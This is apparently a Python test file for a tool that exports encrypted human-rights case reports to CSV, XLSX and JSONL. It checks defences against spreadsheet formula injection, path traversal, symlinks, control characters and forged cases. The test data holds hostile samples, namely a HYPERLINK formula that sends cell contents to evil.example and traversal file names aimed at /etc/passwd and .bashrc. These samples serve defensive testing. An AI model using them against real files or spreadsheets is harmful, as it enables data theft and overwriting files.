"""The export as a reviewer opens it: a spreadsheet with every field, in every language."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select, update

from handlers.export_layout import export_layout
from storage.attachments import seal_attachment
from storage.cases import AttachmentRef, CaseDocument, is_object_id, new_object_id
from storage.crypto.keys import ReviewerPrivateKey
from storage.database import Database
from storage.defuse import (
    cell_text,
    defuse,
    json_line,
    one_line,
    safe_file_name,
    sheet_title,
)
from storage.export import (
    ExportFormat,
    ExportRequest,
    ExportTally,
    export_cases,
    open_cases,
    tables_in_memory,
)
from storage.models import Case
from tests.storage.cases import (
    NARRATIVES,
    PHOTO,
    addendum,
    copies_of,
    detention,
    files_under,
    forge,
    forged_file,
    store,
    written_outside,
)

LAYOUT = export_layout("en")
"""The export as a reviewer gets it without --lang: the forms' columns, English words."""


def ask(out: Path, form: ExportFormat, **options: Any) -> ExportRequest:
    """An export request as `kuager export` makes it."""
    return ExportRequest(out, form, layout=LAYOUT, **options)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def table(out: Path, key: str) -> Path:
    """The CSV file of one table beside the Cases file `out` (`cases_detention.csv`)."""
    return out.with_name(f"{out.stem}_{key}.csv")


async def three_languages(db: Database, key: ReviewerPrivateKey) -> dict[str, str]:
    ids = {}
    for language in ("kk", "ru", "en"):
        ids[language] = (await store(db, detention(language), [key.public])).case_id
    return ids


async def test_jsonl_holds_every_answer_in_every_language(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    out = tmp_path / "cases.jsonl"
    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.JSONL))
    assert tally.ok and tally.exported == 3
    records = {r["case_id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    for language, case_id in ids.items():
        record = records[case_id]
        assert record["answers"]["narrative"] == NARRATIVES[language]
        assert record["language"] == language
        assert record["answers"]["detained_by"] == ["plainclothes", "police"]
        assert record["received_day"] == "2022-01-09"


async def test_csv_opens_in_excel_with_one_column_per_field(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    out = tmp_path / "cases.csv"
    await export_cases(db, reviewer_key, ask(out, ExportFormat.CSV))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    assert {r["Case"] for r in read_csv(out)} == set(ids.values())
    rows = {r["Case"]: r for r in read_csv(table(out, "detention"))}
    kk = rows[ids["kk"]]
    assert kk["What happened"] == NARRATIVES["kk"]
    assert kk["Detained by"] == "Plainclothes officers; Police"
    assert kk["Date"] == "2022-01-06" and kk["Date: precision"] == "Exact"
    assert rows[ids["ru"]]["Place: town or spot"] == "Алматы"
    people = read_csv(table(out, "people"))
    assert [(p["Name"], p["Age"]) for p in people if p["Case"] == ids["kk"]] == [
        ("А. Б.", "34"),
        ("C. D.", "19"),
    ]


async def test_xlsx_has_a_sheet_per_report_type(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    await three_languages(db, reviewer_key)
    other = detention("en")
    other = type(other)(**{**other.__dict__, "form_id": "missing_person"})
    await store(db, other, [reviewer_key.public])
    out = tmp_path / "cases.xlsx"
    await export_cases(db, reviewer_key, ask(out, ExportFormat.XLSX))
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Cases", "People", "WGEID", "Detention or arrest", "Missing person"]
    sheet = book["Detention or arrest"]
    header = [c.value for c in sheet[1]]
    narratives = {
        row[header.index("What happened")] for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert narratives == set(NARRATIVES.values())


async def test_a_witness_formula_stays_text_in_the_reviewers_spreadsheet(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await store(db, detention("en", narrative=evil), [reviewer_key.public])
    await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
    await export_cases(db, reviewer_key, ask(tmp_path / "c.xlsx", ExportFormat.XLSX))
    (row,) = read_csv(tmp_path / "c_detention.csv")
    assert row["What happened"] == "'" + evil
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["Detention or arrest"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("What happened") + 1)
    assert cell.data_type == "s" and cell.value == evil


@pytest.mark.parametrize("cell", ["=1+1", "+7 701 000", "-5", "@SUM(A1)", "\t=x"])
def test_defuse_covers_every_formula_start(cell: str) -> None:
    assert defuse(cell).startswith("'")


async def test_cases_for_another_key_are_counted_and_skipped(
    db: Database, reviewer_key: ReviewerPrivateKey, other_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    await store(db, detention(), [reviewer_key.public])
    await store(db, detention(), [other_key.public])
    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.jsonl", ExportFormat.JSONL))
    assert (tally.exported, tally.not_for_this_key, tally.ok) == (1, 1, True)


async def test_a_tampered_case_is_named_and_skipped(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    async with db.transaction() as session:
        body = (await session.execute(select(Case.body).where(Case.id == ids["ru"]))).scalar_one()
        damaged = body[:-1] + bytes([body[-1] ^ 1])
        await session.execute(update(Case).where(Case.id == ids["ru"]).values(body=damaged))
    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
    assert tally.tampered == [ids["ru"]] and tally.exported == 2 and not tally.ok


async def test_attachments_are_decrypted_beside_the_export_and_checked(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    async with db.transaction() as session:
        sealed = await seal_attachment(session, PHOTO, [reviewer_key.public])
    ref = AttachmentRef(
        sealed.attachment_id, sealed.sha256, sealed.size, "photo", "image/jpeg", "../../etc/passwd"
    )
    case_id = (await store(db, detention(attachments=[ref]), [reviewer_key.public])).case_id
    out = tmp_path / "export" / "cases.csv"
    out.parent.mkdir()
    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.CSV))
    files = list((tmp_path / "export" / "kuager_attachments" / case_id).iterdir())
    assert tally.attachments == 1 and len(files) == 1
    assert files[0].read_bytes() == PHOTO
    assert files[0].name == "01_passwd", "a witness's file name must never become a path"
    (row,) = read_csv(table(out, "detention"))
    assert row["Decrypted files"] == f"kuager_attachments/{case_id}/01_passwd"


def test_safe_file_names() -> None:
    assert safe_file_name(1, "", "photo") == "01_photo"
    assert safe_file_name(2, "..", "voice") == "02_voice"
    assert safe_file_name(3, "C:\\Users\\a\\протокол.pdf", "document") == "03_протокол.pdf"
    assert safe_file_name(4, "", "../../../../../home/.bashrc") == "04_bashrc"
    assert safe_file_name(5, "/", "\x1b[2J") == "05_2J"


async def test_filters_by_type_and_day(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    import datetime as dt

    await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 6))
    await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 20))
    request = ask(tmp_path / "c.jsonl", ExportFormat.JSONL, since=dt.date(2022, 1, 10))
    assert (await export_cases(db, reviewer_key, request)).exported == 1
    request = ask(tmp_path / "c.jsonl", ExportFormat.JSONL, form_id="missing_person")
    assert (await export_cases(db, reviewer_key, request)).exported == 0


# A rogue operator: anyone with write access to the database can seal a case of their own to the
# reviewers' public keys. These tests forge cases exactly so (`forge`), with the public key alone.


async def test_a_forged_kind_cannot_lead_a_file_out_of_the_export_folder(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    # Given a forged case whose file's kind is a path
    ref = await forged_file(db, reviewer_key.public, kind="../../../../../home/.bashrc")
    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
    export = tmp_path / "laptop" / "export"
    export.mkdir(parents=True)
    before = files_under(tmp_path)
    # When the reviewer exports it
    request = ask(export / "cases.csv", ExportFormat.CSV)
    tally = await export_cases(db, reviewer_key, request)
    # Then the file lands in the case's own folder under a plain name, and nothing elsewhere
    assert tally.ok and tally.attachments == 1
    assert (export / "kuager_attachments" / case.case_id / "01_bashrc").read_bytes() == PHOTO
    assert written_outside(tmp_path, export, before) == set()


async def test_a_case_id_with_a_path_in_it_is_tampered_and_writes_nothing(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    public = reviewer_key.public
    good = await forge(db, public, detention("kk", attachments=[await forged_file(db, public)]))
    evil_id = "../../../pwned"
    await forge(db, public, detention(attachments=[await forged_file(db, public)]), evil_id)
    export = tmp_path / "laptop" / "export"
    export.mkdir(parents=True)
    before = files_under(tmp_path)
    request = ask(export / "cases.csv", ExportFormat.CSV)
    tally = await export_cases(db, reviewer_key, request)
    assert tally.tampered == [evil_id] and tally.exported == 1 and not tally.ok
    assert [row["Case"] for row in read_csv(request.out)] == [good.case_id]
    assert written_outside(tmp_path, export, before) == set()


def test_a_case_id_must_have_the_exact_shape_the_bot_makes() -> None:
    assert all(is_object_id(new_object_id()) for _ in range(100))
    for forged in ("../x", "0" * 31, "0" * 33, "A" * 32, "g" * 32, "0" * 31 + "\n"):
        assert not is_object_id(forged), forged


async def test_a_long_name_in_four_byte_letters_is_cut_by_bytes_and_written(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    # 100 MATHEMATICAL BOLD CAPITAL B: 100 characters, 400 bytes, too long for any file system
    name = "\U0001d401" * 100 + ".pdf"
    ref = await forged_file(db, reviewer_key.public, name=name)
    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
    assert tally.ok and tally.attachments == 1
    (written,) = (tmp_path / "kuager_attachments" / case.case_id).iterdir()
    assert written.read_bytes() == PHOTO
    assert written.name.startswith("01_\U0001d401") and written.name.endswith(".pdf")
    assert len(written.name.encode("utf-8")) <= 124


async def test_an_attachment_the_disk_refuses_is_named_and_skipped_and_the_export_goes_on(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    public = reviewer_key.public
    first = await forge(db, public, detention("kk", attachments=[await forged_file(db, public)]))
    second = await forge(db, public, detention("ru", attachments=[await forged_file(db, public)]))
    # Given a folder where the first case's file must go (a full disk or a name the disk
    # refuses fails the same way: as an OSError for that one file)
    (tmp_path / "kuager_attachments" / first.case_id / "01_photo").mkdir(parents=True)
    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
    assert tally.exported == 2 and tally.attachments == 1 and not tally.ok
    assert tally.unwritable == [
        f"{first.case_id}: attachment 1 (01_photo) cannot be written: Is a directory"
    ]
    assert (tmp_path / "kuager_attachments" / second.case_id / "01_photo").read_bytes() == PHOTO


@pytest.mark.parametrize(
    ("linked", "to"),
    [("attachments", "elsewhere"), ("case", "elsewhere"), ("case", "export")],
)
async def test_a_symbolic_link_inside_the_export_folder_is_not_followed(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path, linked: str, to: str
) -> None:
    ref = await forged_file(db, reviewer_key.public)
    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
    export, elsewhere = tmp_path / "export", tmp_path / "elsewhere"
    export.mkdir()
    elsewhere.mkdir(mode=0o755)
    # Given the attachments folder, or a case's folder in it, a link out of the export or
    # out of the attachments folder
    folder = export / "kuager_attachments"
    link = folder if linked == "attachments" else folder / case.case_id
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(elsewhere if to == "elsewhere" else export)
    tally = await export_cases(db, reviewer_key, ask(export / "c.csv", ExportFormat.CSV))
    assert elsewhere.stat().st_mode & 0o777 == 0o755
    assert copies_of(PHOTO, tmp_path) == []
    assert len(tally.unwritable) == 1 and "outside" in tally.unwritable[0]


async def test_exports_into_one_folder_share_one_copy_of_each_attachment(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    # Given a report with two files and an addition to it with one
    public = reviewer_key.public
    files = [await forged_file(db, public, name="протокол.pdf"), await forged_file(db, public)]
    case = await store(db, detention(attachments=files), [public])
    added = addendum(case.case_id, attachments=[await forged_file(db, public)])
    addition = await store(db, added, [public])
    # When the reviewer exports as a.csv, then as b.xlsx and c.jsonl, into one folder
    first = await export_cases(db, reviewer_key, ask(tmp_path / "a.csv", ExportFormat.CSV))
    assert (first.attachments, first.already, first.ok) == (3, 0, True)
    for out in (tmp_path / "b.xlsx", tmp_path / "c.jsonl"):
        again = await export_cases(db, reviewer_key, ask(out, ExportFormat(out.suffix[1:])))
        # Then the later exports decrypt nothing: the first one's files are theirs
        assert (again.attachments, again.already, again.ok) == (0, 3, True), out.name
    # And the laptop holds one copy of each file
    copies = copies_of(PHOTO, tmp_path)
    folders = {f"kuager_attachments/{c.case_id}" for c in (case, addition)}
    assert len(copies) == 3 and {c.rsplit("/", 1)[0] for c in copies} == folders
    # And the paths the later exports give, relative to their folder, are those files
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    cells = []
    for title in ("Detention or arrest", "Additions"):
        rows = book[title].iter_rows(values_only=True)
        header = next(rows)
        cells += [row[header.index("Decrypted files")] for row in rows]
    in_xlsx = sorted(path for cell in cells for path in cell.split("; "))
    records = map(json.loads, (tmp_path / "c.jsonl").read_text("utf-8").splitlines())
    in_jsonl = sorted(path for record in records for path in record["attachment_files"])
    assert in_xlsx == in_jsonl == copies


@pytest.mark.parametrize("form", list(ExportFormat))
async def test_exported_files_are_the_reviewers_alone_even_over_an_older_export(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path, form: ExportFormat
) -> None:
    ref = await forged_file(db, reviewer_key.public)
    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
    folder = tmp_path / "kuager_attachments"
    paths = [
        tmp_path / f"cases.{form}",
        folder,
        folder / case.case_id,
        folder / case.case_id / "01_photo",
    ]
    # Given an older export that anyone on the machine could read
    (folder / case.case_id).mkdir(parents=True)
    for path in paths:
        if not path.exists():
            path.write_bytes(b"old")
        path.chmod(0o755 if path.is_dir() else 0o644)
    await export_cases(db, reviewer_key, ask(paths[0], form))
    modes = [path.stat().st_mode & 0o777 for path in paths]
    assert modes == [0o600, 0o700, 0o700, 0o600]


WITNESS_TEXT = "before\x1b[2J\x07 \u202eafter\x9b\nsecond line"
SHOWN = "before\\x1b[2J\\x07 \\u202eafter\\x9b\nsecond line"
FORMULA_KEY = '=HYPERLINK("http://evil.example/","click")'
ACTING = ("\x1b", "\x07", "\u202e", "\x9b")


async def test_control_characters_neither_act_nor_hide_in_any_export(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    document = detention("en", narrative=WITNESS_TEXT, extra={FORMULA_KEY: WITNESS_TEXT})
    await forge(db, reviewer_key.public, document)
    # and a case of a report type no form defines, named like a formula
    await forge(
        db, reviewer_key.public, CaseDocument(**{**document.__dict__, "form_id": FORMULA_KEY})
    )
    for form in ExportFormat:
        request = ask(tmp_path / f"c.{form}", form)
        assert (await export_cases(db, reviewer_key, request)).ok
    # CSV: escaped, line break kept, the forged type defused like any cell
    (row,) = read_csv(tmp_path / "c_detention.csv")
    assert row["What happened"] == SHOWN
    (other,) = read_csv(tmp_path / "c_other.csv")
    assert other["Report type"] == "'" + FORMULA_KEY and "HYPERLINK" in other["Answers (JSON)"]
    # XLSX: written at all (openpyxl refuses ESC), the forged type a string, not a formula
    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
    sheet = book["Detention or arrest"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("What happened") + 1).value == SHOWN
    forged = book["Other types"].cell(row=2, column=2)
    assert forged.data_type == "s" and forged.value == FORMULA_KEY
    # JSONL: every character escaped, the witness's exact text for a JSON reader
    record = json.loads((tmp_path / "c.jsonl").read_text("utf-8").splitlines()[0])
    assert record["answers"]["narrative"] == WITNESS_TEXT
    for suffix in ("csv", "jsonl"):
        raw = (tmp_path / f"c.{suffix}").read_text("utf-8")
        assert not any(c in raw for c in ACTING), suffix
    cells = [
        str(v)
        for sheet in book.worksheets
        for r in sheet.iter_rows(values_only=True)
        for v in r
        if v is not None
    ]
    assert not any(c in cell for cell in cells for c in ACTING)


def test_escapes_keep_line_breaks_in_cells_and_nothing_on_a_line() -> None:
    assert cell_text("a\tb\nc\x1bd\x7f") == "a\tb\nc\\x1bd\\x7f"
    assert one_line("a\tb\r\nc\x1bd\u2028\u2066") == "a\\x09b\\x0d\\x0ac\\x1bd\\u2028\\u2066"
    assert cell_text("\ud800\ufffe") == "\\ud800\\ufffe"
    tricky = "\x9b\u202e\ud800 ok ә"
    line = json_line(json.dumps({"t": tricky}, ensure_ascii=False))
    assert json.loads(line) == {"t": tricky} and "ә" in line
    assert not any(c in line for c in "\x9b\u202e\ud800")


def test_sheet_titles_are_ones_excel_accepts() -> None:
    taken: set[str] = set()
    assert sheet_title("detention", taken) == "detention"
    assert sheet_title("Detention", taken) == "Detention~2"
    assert sheet_title("a/b:c*?[d]'\x1b", taken) == "a_b_c___d___"
    assert len(sheet_title("x" * 64, taken)) == 31


async def test_a_forged_form_id_still_makes_a_workbook(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    for form_id in ("reports/2022 [draft]", "REPORTS/2022 [DRAFT]"):
        forged = CaseDocument(**{**detention().__dict__, "form_id": form_id})
        await forge(db, reviewer_key.public, forged)
    out = tmp_path / "c.xlsx"
    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.XLSX))
    assert tally.ok and tally.exported == 2
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Cases", "People", "Other types"]
    types = {row[1] for row in book["Other types"].iter_rows(min_row=2, values_only=True)}
    assert types == {"reports/2022 [draft]", "REPORTS/2022 [DRAFT]"}


class Misshapen(CaseDocument):
    """A document no bot writes: `form` a string, an attachment a string."""

    def to_json(self, case_id: str) -> dict[str, Any]:
        return {**super().to_json(case_id), "form": "x", "attachments": ["../../x"]}


async def test_a_misshapen_document_is_tampered_not_a_crash(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    good = await forge(db, reviewer_key.public, detention("kk"))
    bad = await forge(db, reviewer_key.public, Misshapen(**detention().__dict__))
    for form in ExportFormat:
        request = ask(tmp_path / f"c.{form}", form)
        tally = await export_cases(db, reviewer_key, request)
        assert tally.tampered == [bad.case_id] and tally.exported == 1, form
    assert [row["Case"] for row in read_csv(tmp_path / "c.csv")] == [good.case_id]


async def test_no_attachments_decrypts_no_file(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ref = await forged_file(db, reviewer_key.public)
    await forge(db, reviewer_key.public, detention(attachments=[ref]))
    request = ask(tmp_path / "c.csv", ExportFormat.CSV, attachments=False)
    tally = await export_cases(db, reviewer_key, request)
    assert tally.ok and tally.exported == 1 and tally.attachments == 0
    assert not (tmp_path / "kuager_attachments").exists()
    assert read_csv(table(request.out, "detention"))[0]["Decrypted files"] == ""


class OddFileId(CaseDocument):
    """A document whose attachment id is no id at all (a database driver refuses to bind it)."""

    def to_json(self, case_id: str) -> dict[str, Any]:
        return {**super().to_json(case_id), "attachments": [{"attachment_id": {"id": 1}}]}


async def test_an_attachment_id_that_is_no_id_is_a_missing_attachment(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    case = await forge(db, reviewer_key.public, OddFileId(**detention().__dict__))
    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
    assert tally.exported == 1
    assert tally.attachment_problems == [f"{case.case_id}: attachment 1 is missing or altered"]


async def test_an_attachment_already_exported_is_not_decrypted_again_unless_it_changed(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ref = await forged_file(db, reviewer_key.public)
    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
    written = tmp_path / "kuager_attachments" / case.case_id / "01_photo"
    request = ask(tmp_path / "c.csv", ExportFormat.CSV)
    first = await export_cases(db, reviewer_key, request)
    assert (first.attachments, first.already) == (1, 0)
    # When the reviewer exports again, the file is kept as it is (and still listed)
    again = await export_cases(db, reviewer_key, request)
    assert (again.attachments, again.already, again.ok) == (0, 1, True)
    assert read_csv(table(request.out, "detention"))[0]["Decrypted files"].endswith("01_photo")
    # But a file cut short (an export stopped half-way) or changed is decrypted afresh
    for damaged in (PHOTO[:100], b"X" + PHOTO[1:]):
        written.write_bytes(damaged)
        redone = await export_cases(db, reviewer_key, request)
        assert (redone.attachments, redone.already) == (1, 0)
        assert written.read_bytes() == PHOTO


class DiskWatch:
    """A layout that looks at the disk while the tables are written: its UN-gaps test runs for
    each detention case's Cases row, after the rows of the cases before it went out."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.seen: list[set[str]] = []
        watched = dataclasses.replace(LAYOUT.forms["detention"], un_gaps=self._look)
        self.layout = dataclasses.replace(LAYOUT, forms={**LAYOUT.forms, "detention": watched})

    def _look(self, answers: Any) -> tuple[str, ...]:
        self.seen.append(
            {
                str(path.relative_to(self.root))
                for path in self.root.rglob("*")
                if path.is_file() and not path.name.startswith("kuager.db")
            }
        )
        return ()


@pytest.fixture
def system_temp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system's temporary folder, moved where the test can see into it."""
    folder = tmp_path / "system_temp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


async def test_xlsx_rows_wait_in_no_named_file_nor_in_the_system_temporary_folder(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path, system_temp: Path
) -> None:
    """openpyxl keeps a sheet's rows in a named file in the system's temporary folder until it
    zips the workbook: decrypted text outside the folder the reviewer chose, left there by a
    crash. Looked at while the sheets are being written, the disk holds none of it anywhere."""
    canary = "CANARY-SHEET-ROWS-7c1e"
    for _ in range(3):
        await store(db, detention("en", narrative=canary), [reviewer_key.public])
    watch = DiskWatch(tmp_path)
    out = tmp_path / "export" / "cases.xlsx"
    out.parent.mkdir()
    tally = await export_cases(
        db, reviewer_key, ExportRequest(out, ExportFormat.XLSX, layout=watch.layout)
    )
    assert tally.exported == 3
    # The named files meanwhile: the (still empty) workbook, and the database's own.
    assert watch.seen == [{"export/cases.xlsx"}] * 3
    assert os.listdir(system_temp) == []
    assert [p.name for p in out.parent.iterdir()] == ["cases.xlsx"]
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.values for cell in row]
    assert cells.count(canary) == 3


async def test_tables_in_memory_are_the_export_s_tables_and_touch_no_disk(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path, system_temp: Path
) -> None:
    """The desk's download: the same tables as `kuager export`, built without a file."""
    await three_languages(db, reviewer_key)
    tally = ExportTally()
    async with db.sessions() as session:
        opened = [case async for case in open_cases(session, reviewer_key, tally)]
    out = tmp_path / "export" / "cases.csv"
    out.parent.mkdir()
    await export_cases(db, reviewer_key, ask(out, ExportFormat.CSV))
    on_disk = {p.name: p.read_bytes() for p in out.parent.iterdir()}
    before = files_under(tmp_path)
    watch = DiskWatch(tmp_path)

    zipped = tables_in_memory(opened, ExportFormat.CSV, LAYOUT)
    workbook = tables_in_memory(opened, ExportFormat.XLSX, watch.layout)

    # Nothing new on the disk while the workbook was built, nor after.
    named_before = {str(p.relative_to(tmp_path)) for p in before if p.is_file()}
    named_before = {n for n in named_before if not Path(n).name.startswith("kuager.db")}
    assert watch.seen == [named_before] * 3
    assert files_under(tmp_path) == before
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == on_disk
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    header, *rows = book.worksheets[0].values
    csv_rows = read_csv(out)
    assert list(header) == list(csv_rows[0])
    assert {row[0] for row in rows} == {row[header[0]] for row in csv_rows}
    assert len(rows) == 3


class Backdated(CaseDocument):
    """A hand-sealed document that claims a received day of its own, and the export's fields."""

    def to_json(self, case_id: str) -> dict[str, Any]:
        forged = {"received_day": "2021-12-16", "statuses": {"narrative": "skipped"}}
        return {**super().to_json(case_id), **forged}


async def test_a_document_cannot_set_the_fields_the_export_adds_to_a_jsonl_line(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    """The day a case arrived is the server's, chained and clear; a forged document claiming
    another (to date a report before the events) does not change it in the export."""
    receipt = await forge(db, reviewer_key.public, Backdated(**detention().__dict__))
    out = tmp_path / "c.jsonl"
    assert (await export_cases(db, reviewer_key, ask(out, ExportFormat.JSONL))).exported == 1
    (record,) = map(json.loads, out.read_text("utf-8").splitlines())
    assert record["received_day"] == receipt.received_day.isoformat() != "2021-12-16"
    assert record["statuses"] == {}, "every answer of this report was given"
